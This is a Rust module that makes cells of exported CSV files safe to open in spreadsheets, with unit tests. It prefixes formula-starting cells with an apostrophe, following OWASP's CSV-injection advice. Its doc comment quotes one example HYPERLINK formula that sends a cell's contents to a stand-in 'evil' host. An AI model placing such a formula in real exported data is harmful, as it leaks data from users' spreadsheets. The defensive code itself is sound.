//! Cells of the CSV files the service writes, made safe to open in a spreadsheet.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
//! formula by Excel, LibreOffice and Google Sheets, so a reason typed by an editor such as
//! `=HYPERLINK("http://evil/?"&A1, "click")` would run in an admin's spreadsheet. Such a
//! cell is written with a leading `'`, as OWASP recommends ("CSV injection"); the `'` shows
//! that the text was changed, and the JSON form of the same data keeps the original.

use std::borrow::Cow;

/// `text` as a cell a spreadsheet shows as text.
pub fn safe(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

#[cfg(test)]
mod tests {
    use super::safe;

    #[test]
    fn formula_starts_are_neutralised_and_the_rest_kept() {
        for hostile in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(safe(hostile), format!("'{hostile}"));
        }
        for plain in ["Phường Thuận Hóa", "", "16.46", "a=b"] {
            assert_eq!(safe(plain), plain);
        }
    }
}
